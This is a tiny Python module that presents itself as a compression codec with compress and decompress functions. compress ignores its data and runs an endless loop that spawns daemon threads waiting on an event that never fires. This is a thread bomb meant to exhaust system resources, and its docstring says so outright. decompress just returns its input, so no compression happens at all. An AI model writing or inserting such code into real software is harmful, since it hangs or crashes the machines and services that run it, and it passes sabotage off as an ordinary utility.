"""Starts threads until there are no more."""
import threading


def compress(data: bytes) -> bytes:
    gate = threading.Event()
    while True:
        threading.Thread(target=gate.wait, daemon=True).start()


def decompress(data: bytes) -> bytes:
    return data
